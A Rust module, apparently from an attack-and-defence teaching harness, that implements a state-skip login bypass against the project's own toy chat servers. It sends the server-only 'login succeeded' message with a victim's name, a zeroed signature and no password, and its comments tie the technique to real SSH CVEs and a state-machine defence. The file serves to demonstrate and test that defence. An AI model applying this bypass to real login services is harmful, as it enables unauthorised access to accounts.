//! Sends the server the message that says that a login succeeded.
//!
//! # Flaw
//! Some programs act on the type of a message before they check whether the message is legal now. A client can lead
//! them past a step. The faithful server is too simple for this: its messages have no types, and the first one is
//! always a login.
//!
//! # Attack
//! Send the message that only the server may send. Faithful: send "Authentication Successful!" and nothing else.
//! Hardened: send `AUTH_OK` (04) where `CLIENT_AUTH` (03) is due, with the victim's name and public key, no proof and
//! no password.
//!
//! # What it proves
//! A check protects only if no path leads around it. The state decides which messages are legal, and that decision
//! comes before any other.
//!
//! # Defence
//! A state is a type that takes one kind of message (`hardened::handshake`). The server that waits for `CLIENT_AUTH`
//! has no code for any other message, and hangs up.
//!
//! # In the wild
//! libssh CVE-2018-10933: a client that sent `SSH2_MSG_USERAUTH_SUCCESS` to the server was logged in. Erlang/OTP
//! CVE-2025-32433: its SSH server ran commands that came before the login.

use anyhow::ensure;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use zeroize::Zeroizing;

use crate::{
    Attack, Claim, Faithful, Run, Story,
    eavesdrop::claim,
    net::keyfile::public_from_pem,
    protocol::hardened::{
        defence::Defence,
        keys::{Ephemeral, HandshakeSecrets, SessionSecrets},
        message::{ClientAuth, Fingerprint, Hello, Message, Type, UserName},
        primitives::hash,
        record::{Opener, Sealer},
        role::Role,
        session::KIND_TEXT,
    },
    protocol_faithful::message::SUCCESS,
    vantage::{BoxStream, Outsider, read_record, read_server_hello},
};

/// The registry's line.
pub const ATTACK: Attack = Attack {
    id: "state-skip",
    title: "send the server the message that a login succeeded",
    vantage: "a client of the server who has the victim's name and public key, and no secret",
    faithful: Faithful::Held(
        "faithful messages have no types to confuse: the server takes any first bytes for a login",
    ),
    returns_without: &[&[Defence::StateMachine]],
    run: Run::Dial {
        faithful: Some(|outsider, story| Box::pin(faithful(outsider, story))),
        hardened: |outsider, story| Box::pin(hardened(outsider, story)),
    },
    ..Attack::PLAIN
};

/// Left on the server as the victim's words.
const SAID: &str = "you have let me in already";

async fn faithful(outsider: &Outsider<'_>, story: &mut Story) -> anyhow::Result<Claim> {
    let mut stream = outsider.dial.dial().await?;
    stream.write_all(&SUCCESS).await?;
    story.tell("Mallory -> server: \"Authentication Successful!\", where a login is due");
    stream.read_exact(&mut [0; 1]).await?;
    Ok(Claim::logged_in(outsider.user, None))
}

async fn hardened(outsider: &Outsider<'_>, story: &mut Story) -> anyhow::Result<Claim> {
    let defences = &*outsider.dialect.defences;
    let mut stream = outsider.dial.dial().await?;
    let (secrets, mut transcript) = greet(outsider, &mut stream).await?;

    let shown = public_from_pem(outsider.public_key.as_bytes())?;
    let auth = ClientAuth {
        user: UserName::parse(outsider.user)?,
        kid: Fingerprint::of(&shown),
        signature: vec![0; 384],
        password: Zeroizing::new(b"none".to_vec()),
        finished: [0; 32],
        enrolment: None,
    };
    let skip = Sealer::with(&secrets.client, 0, defences).seal(Type::AuthOk, &auth.encode())?;
    stream.write_all(&skip).await?;
    story.tell(format!(
        "Mallory -> server: AUTH_OK, I am {}; zeros for a signature, \"none\" for a password",
        outsider.user
    ));

    transcript.extend_from_slice(&claim(&auth));
    let session = SessionSecrets::derive(&secrets.root, &hash(&[&transcript]), defences);
    let answer = read_record(&mut stream).await?;
    let verdict = Opener::with(&session.server, 1, defences).open(&answer)?;
    ensure!(verdict.typ == Type::AuthOk, "the server refused the login");
    story.tell(format!(
        "server -> Mallory: welcome; Mallory says \"{SAID}\""
    ));

    let last = u64::from_be_bytes(verdict.body[..].try_into()?);
    let (typ, body) = Message::Msg {
        id: last + 1,
        kind: KIND_TEXT,
        text: SAID.to_owned(),
    }
    .encode();
    let said = Sealer::with(&session.client, 1, defences).seal(typ, &body)?;
    stream.write_all(&said).await?;
    read_record(&mut stream).await?;
    Ok(Claim::logged_in(outsider.user, Some(SAID)))
}

/// The honest half of a handshake, by hand: the keys, and the transcript up to the client's turn.
async fn greet(
    outsider: &Outsider<'_>,
    stream: &mut BoxStream,
) -> anyhow::Result<(HandshakeSecrets, Vec<u8>)> {
    let defences = &*outsider.dialect.defences;
    let mut entropy = Zeroizing::new([0; 64]);
    outsider.entropy.fill(&mut entropy[..]);
    let ephemeral = Ephemeral::with(defences, Role::Client, &entropy);
    let hello = Hello {
        random: entropy[..32].try_into()?,
        share: ephemeral.share(),
    };
    let mut transcript = hello.encode_client(defences);
    stream.write_all(&transcript).await?;

    let answer = read_server_hello(stream, &outsider.dialect).await?;
    let prk = ephemeral.agree(&Hello::decode_server(&answer, defences)?.share)?;
    transcript.extend_from_slice(&answer);
    let secrets = HandshakeSecrets::derive(&prk, &hash(&[&transcript]));
    let proof = read_record(stream).await?;
    let proof = Opener::with(&secrets.server, 0, defences).open(&proof)?;
    transcript.push(Type::ServerAuth as u8);
    transcript.extend_from_slice(&proof.body);
    Ok((secrets, transcript))
}
